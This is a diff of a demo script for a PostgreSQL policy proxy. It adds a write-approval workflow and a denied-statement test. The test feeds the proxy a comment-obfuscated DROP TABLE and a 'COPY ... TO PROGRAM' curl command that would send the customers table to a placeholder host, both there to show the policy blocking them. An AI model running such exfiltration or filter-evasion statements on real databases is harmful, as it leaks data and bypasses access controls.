@@ -38,7 +38,7 @@ scripts/pg-local.sh role "$tmp/pg" "$db_port" app_ro "$app_password"
 psql -X -h "$tmp/pg" -p "$db_port" -U postgres -Atq \
   -c "create table customers (id int, name text, email text)" \
   -c "insert into customers values (1, 'Ada', 'ada@example.com'), (2, 'Linus', 'linus@example.com')" \
-  -c "grant select on customers to app_ro"
+  -c "grant select, update on customers to app_ro"
 (umask 077 && printf '{ "db": { "app_ro": "%s" } }\n' "$app_password" >"$tmp/credentials.json")
 
 cat >"$tmp/pgtether.json" <<JSON
@@ -71,7 +71,7 @@ cat >"$tmp/policy.d/10-ci.json" <<JSON
              "claims": { "sub": "repo:acme/api:*" } },
   "token": { "source": "password" },
   "upstream": "db", "role": "app_ro",
-  "statements": { "allow": ["read", "transaction", "session"], "deny": ["drop"] }
+  "statements": { "allow": ["read", "transaction", "session"], "deny": ["drop"], "approve": ["write"] }
 } ] }
 JSON
 token=$(scripts/dev-jwt.py mint "$tmp/issuers.d" demo-key '{"iss": "https://ci.demo.test", "aud": "pgtether", "sub": "repo:acme/api:ref:refs/heads/main"}')
@@ -109,11 +109,31 @@ PGPASSWORD=$token pgt run --cgroup "/$id/agent" -- psql -X "host=127.0.0.2 port=
 show "PGPASSWORD=forged pgtether run --cgroup /$id/ci-job -- psql -h 127.0.0.2 ..."
 PGPASSWORD=forged pgt run --cgroup "/$id/ci-job" -- psql -X "host=127.0.0.2 port=$db_port user=ci-bot dbname=postgres" -c "$query" || true
 
-say "2c. Restricted: the rule allows reading only; other statements are denied, the session goes on"
-show "PGPASSWORD=\$CI_TOKEN pgtether run --cgroup /$id/ci-job -- psql -c 'DELETE FROM customers' -c 'DROP TABLE customers' -c 'SELECT count(*) FROM customers'"
+say "2c. Restricted: DROP is denied (so is anything the rule does not list); the session goes on"
+show "PGPASSWORD=\$CI_TOKEN pgtether run --cgroup /$id/ci-job -- psql -c 'DROP /* sneaky */ TABLE customers' -c 'COPY customers TO PROGRAM ...' -c 'SELECT count(*) ...'"
 PGPASSWORD=$token pgt run --cgroup "/$id/ci-job" -- psql -X "host=127.0.0.2 port=$db_port user=ci-bot dbname=postgres" \
-  -c "DELETE FROM customers" -c "DROP /* sneaky */ TABLE customers" -c "SELECT count(*) AS customers_still_there FROM customers" || true
+  -c "DROP /* sneaky */ TABLE customers" -c "COPY customers TO PROGRAM 'curl -d @- https://example.invalid'" \
+  -c "SELECT count(*) AS customers_still_there FROM customers" || true
 grep -E 'event=stmt\.denied' "$tmp/daemon.log" | tail -n 2
+
+say "2d. A write needs approval: it waits in the workload's session until an admin decides"
+show "PGPASSWORD=\$CI_TOKEN pgtether run --cgroup /$id/ci-job -- setpriv --reuid=nobody ... psql -c \"UPDATE customers SET email = 'ada@new.example' WHERE id = 1\" &"
+PGPASSWORD=$token pgt run --cgroup "/$id/ci-job" -- setpriv --reuid=65534 --regid=65534 --clear-groups \
+  psql -X "host=127.0.0.2 port=$db_port user=ci-bot dbname=postgres" \
+  -c "UPDATE customers SET email = 'ada@new.example' WHERE id = 1" -c "SELECT email FROM customers WHERE id = 1" &
+writer=$!
+request=""
+for _ in $(seq 100); do
+  request=$(pgt approvals --json | jq -r '.[0].request // empty')
+  [ -n "$request" ] && break
+  sleep 0.05
+done
+show "pgtether approvals"
+pgt approvals
+show "pgtether approve $request"
+pgt approve "$request"
+wait "$writer" || true
+grep -E 'event=approval\.(request|decision)' "$tmp/daemon.log" | tail -n 2
 
 say "3. pgtether status while a workload holds a connection"
 PGPASSWORD=$token pgt run --cgroup "/$id/ci-job" -- psql -X "host=127.0.0.2 port=$db_port user=ci-bot dbname=postgres" -Atqc "select pg_sleep(2)" >/dev/null &
